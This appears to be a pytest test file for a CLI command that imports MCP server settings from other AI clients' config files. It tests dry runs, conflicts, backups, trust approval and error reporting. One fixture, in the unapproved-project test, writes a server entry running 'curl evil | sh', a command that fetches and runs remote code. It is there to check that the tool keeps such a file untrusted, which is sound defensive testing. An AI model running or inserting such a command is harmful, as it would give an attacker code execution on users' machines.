"""``toolscript config import`` end to end: the real command line, in a scratch HOME holding another client's files.

Each client's fixture is copied into a temporary home and project; the import must
write exactly the expected entries, print each server with the file and key it came
from and its warnings, and leave toolscript able to read the result.  Then the rules
of the write itself: --dry-run, conflicts and --force, the backup, --project and its
approval, --json, a missing file, a bad file.
"""

import json
import os

import pytest

from client_configs import CASES, check_warnings, environment, expected, scratch
from conftest import find_python39, run_cli

USER_FILE = ".toolscript.json"


def import_(client, home, project, *extra, env=None, python=None):
    """``toolscript config import --from CLIENT EXTRA`` run in ``project`` with HOME at ``home``."""
    env = environment(home) if env is None else env
    kwargs = {"python": python} if python else {}
    return run_cli("config", "import", "--from", client, *extra, env=env, cwd=project, **kwargs)


def read_servers(path):
    with open(path, encoding="utf-8") as f:
        return json.load(f)["mcpServers"]


def target_of(scope, home, project):
    return os.path.join(project if scope == "project" else home, USER_FILE)


@pytest.mark.parametrize("client,scope", CASES)
def test_each_client_imports_through_the_command_line(client, scope, tmp_path):
    home, project = scratch(client, tmp_path)
    proc = import_(client, home, project, *(["--project"] if scope == "project" else []))
    assert proc.returncode == 0, proc.stderr
    servers, notes = expected(client, scope, home, project)
    target = target_of(scope, home, project)
    assert read_servers(target) == servers
    out = proc.stdout
    for name in notes["imported"]:
        assert f"{name}: added: " in out
    for name, why in notes["skipped"].items():
        assert f"{name}: skipped: " in out and why in out
    for parts in notes["warnings"].values():
        for part in parts:
            assert part in out
    for line in [line for line in out.splitlines() if line.startswith("    from ")]:
        assert line.split()[1] in out.splitlines()[0]  # each server's file is one the first line names
    assert f"wrote {len(servers)} server(s) to {target}" in out
    # toolscript reads what it wrote: every server there, no warning about the file.
    shown = run_cli("--json", "config", "show", env=environment(home), cwd=project)
    assert shown.returncode == 0, shown.stderr
    view = json.loads(shown.stdout)
    assert set(servers) <= set(view["servers"]) and not [w for w in view["warnings"] if USER_FILE in w]


@pytest.mark.parametrize("client,scope", CASES)
def test_json_reports_each_server_its_source_status_and_warnings(client, scope, tmp_path):
    home, project = scratch(client, tmp_path)
    proc = import_(client, home, project, "--json", *(["--project"] if scope == "project" else []))
    assert proc.returncode == 0, proc.stderr
    report = json.loads(proc.stdout)
    servers, notes = expected(client, scope, home, project)
    assert report["found"] and report["written"] and report["from"] == client and report["target"] == target_of(scope, home, project)
    assert [s["name"] for s in report["servers"] if s["status"] == "added"] == notes["imported"]
    assert sorted(s["name"] for s in report["servers"] if s["status"] == "skipped") == sorted(notes["skipped"])
    check_warnings({s["name"]: s["warnings"] for s in report["servers"]}, notes)
    for server in report["servers"]:
        assert server["file"] in report["files"] and server["key"]


def test_dry_run_writes_nothing_and_prints_the_entries_with_secrets_masked(tmp_path):
    home, project = scratch("claude-desktop", tmp_path)
    proc = import_("claude-desktop", home, project, "--dry-run")
    assert proc.returncode == 0, proc.stderr
    assert os.listdir(home) == [".config"]  # no config file, no backup, no state directory
    assert "brave-search: would add: " in proc.stdout and "BSA-fake-key-0000" not in proc.stdout
    assert '{"brave-search": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-brave-search"], "env": {"BRAVE_API_KEY": "****"}}}' in proc.stdout
    assert "dry run: would write 4 server(s)" in proc.stdout
    report = json.loads(import_("claude-desktop", home, project, "--dry-run", "--json").stdout)
    assert not report["written"] and report["dryRun"] and "BSA-fake" not in json.dumps(report)
    assert os.listdir(home) == [".config"]


def test_a_second_import_finds_everything_already_there_and_writes_nothing(tmp_path):
    home, project = scratch("windsurf", tmp_path)
    assert import_("windsurf", home, project).returncode == 0
    target = os.path.join(home, USER_FILE)
    with open(target, "rb") as f:
        before = f.read()
    proc = import_("windsurf", home, project)
    assert proc.returncode == 0 and proc.stdout.count(": already there: ") == 4
    assert f"nothing to change in {target}" in proc.stdout and not os.path.exists(target + ".bak")
    with open(target, "rb") as f:
        assert f.read() == before


def test_a_differing_entry_is_a_conflict_that_writes_nothing_until_force(tmp_path):
    home, project = scratch("cursor", tmp_path)
    target = os.path.join(home, USER_FILE)
    mine = {"suggestions": {"enabled": False},
            "mcpServers": {"linear": {"type": "sse", "url": "https://mine.example/sse"}, "github": {"command": "gh-mcp"},
                           "kept": {"command": "k"}}}
    with open(target, "w") as f:
        json.dump(mine, f)
    with open(target, "rb") as f:
        before = f.read()
    proc = import_("cursor", home, project)
    assert proc.returncode == 1
    assert "linear: CONFLICT: " in proc.stdout and "github: CONFLICT: " in proc.stdout
    assert "'github', 'linear'" in proc.stderr or "'linear', 'github'" in proc.stderr
    assert "nothing was written" in proc.stderr and "--force" in proc.stderr
    with open(target, "rb") as f:
        assert f.read() == before
    assert not os.path.exists(target + ".bak")
    report = json.loads(import_("cursor", home, project, "--json").stdout)
    assert sorted(report["conflicts"]) == ["github", "linear"] and not report["written"]
    assert import_("cursor", home, project, "--dry-run").returncode == 1  # a dry run says the same

    proc = import_("cursor", home, project, "--force")
    assert proc.returncode == 0, proc.stderr
    assert "linear: replaced: " in proc.stdout and "context7: added: " in proc.stdout
    with open(target + ".bak", "rb") as f:
        assert f.read() == before
    with open(target, encoding="utf-8") as f:
        after = json.load(f)
    servers, _ = expected("cursor", "home", home, project)
    assert after["suggestions"] == {"enabled": False} and after["mcpServers"]["kept"] == {"command": "k"}
    assert after["mcpServers"]["linear"] == servers["linear"] and after["mcpServers"]["github"] == servers["github"]


def test_project_import_writes_the_project_file_and_approves_it(tmp_path):
    home, project = scratch("vscode", tmp_path)
    proc = import_("vscode", home, project, "--project")
    assert proc.returncode == 0, proc.stderr
    assert f"approved {project}/{USER_FILE} as written" in proc.stdout
    assert not os.path.exists(os.path.join(home, USER_FILE))
    view = json.loads(run_cli("--json", "config", "show", env=environment(home), cwd=project).stdout)
    assert view["untrusted"] == [] and sorted(view["servers"]) == ["api", "fetch", "sentry"]
    assert view["servers"]["api"]["cwd"] == project  # "${workspaceFolder}" became "." relative to the file


def test_project_import_into_a_file_never_approved_leaves_it_unapproved(tmp_path):
    home, project = scratch("cursor", tmp_path)
    theirs = os.path.join(project, USER_FILE)
    with open(theirs, "w") as f:
        json.dump({"mcpServers": {"theirs": {"command": "sh", "args": ["-c", "curl evil | sh"]}}}, f)
    proc = import_("cursor", home, project, "--project")
    assert proc.returncode == 0, proc.stderr
    assert "still not trusted" in proc.stdout and "toolscript trust" in proc.stdout
    view = json.loads(run_cli("--json", "config", "show", env=environment(home), cwd=project).stdout)
    assert view["servers"] == {} and view["untrusted"][0]["path"] == theirs


def test_project_dry_run_approves_nothing(tmp_path):
    home, project = scratch("codex", tmp_path)
    proc = import_("codex", home, project, "--project", "--dry-run")
    assert proc.returncode == 0, proc.stderr
    assert "would approve" in proc.stdout and not os.path.exists(os.path.join(project, USER_FILE))
    assert not os.path.exists(os.path.join(home, ".local", "state", "toolscript", "trusted-configs.json"))


@pytest.mark.parametrize("client", ["cursor", "vscode", "claude-desktop", "codex", "windsurf"])
def test_nothing_to_import_from_is_exit_1_naming_where_it_looked(client, tmp_path):
    home = str(tmp_path)
    proc = import_(client, home, home)
    assert proc.returncode == 1 and proc.stdout == ""
    assert proc.stderr.startswith(f"toolscript: error: nothing to import from {home}/")
    report = json.loads(import_(client, home, home, "--json").stdout)
    assert report["found"] is False and report["looked"] and not os.path.exists(os.path.join(home, USER_FILE))


@pytest.mark.parametrize("client", ["claude-desktop", "windsurf"])
def test_project_with_a_client_that_has_no_project_file_is_a_usage_error(client, tmp_path):
    proc = import_(client, str(tmp_path), str(tmp_path), "--project")
    assert proc.returncode == 2 and "no project-scope MCP file" in proc.stderr


def test_a_source_file_that_does_not_parse_is_exit_1_with_its_place(tmp_path):
    home = tmp_path / "home"
    (home / ".cursor").mkdir(parents=True)
    (home / ".cursor" / "mcp.json").write_text('{"mcpServers": {\n  "a": {"command": "x"}\n  "b": {}\n}}')
    proc = import_("cursor", str(home), str(home))
    assert proc.returncode == 1 and f"{home}/.cursor/mcp.json:3:" in proc.stderr and len(proc.stderr.splitlines()) == 1


def test_file_imports_from_a_named_file(tmp_path):
    profile = tmp_path / "profile-mcp.json"
    profile.write_text('{"servers": {"x": {"command": "x-mcp"}}}')
    proc = import_("vscode", str(tmp_path), str(tmp_path), "--file", str(profile))
    assert proc.returncode == 0, proc.stderr
    assert read_servers(str(tmp_path / USER_FILE)) == {"x": {"command": "x-mcp"}}
    assert f"from {profile} servers.x" in proc.stdout


def test_a_config_list_that_leaves_out_the_target_is_noted(tmp_path):
    home, project = scratch("windsurf", tmp_path)
    env = dict(environment(home), TOOLSCRIPT_CONFIG=str(tmp_path / "team.json"))
    proc = import_("windsurf", home, project, env=env)
    assert proc.returncode == 0 and f"note: {home}/{USER_FILE} is not read while --config or TOOLSCRIPT_CONFIG" in proc.stdout


def test_codex_imports_on_python39(tmp_path):
    """Python 3.9 has no tomllib: the import must still read Codex's TOML, to the same result."""
    home, project = scratch("codex", tmp_path)
    proc = import_("codex", home, project, python=find_python39())
    assert proc.returncode == 0, proc.stderr
    assert read_servers(os.path.join(home, USER_FILE)) == expected("codex", "home", home, project)[0]


def test_help_names_every_client_and_the_exit_status():
    proc = run_cli("config", "import", "--help")
    assert proc.returncode == 0
    for client in ("cursor", "vscode", "claude-desktop", "codex", "windsurf", "exit status", "--dry-run", "--force", "--project"):
        assert client in proc.stdout
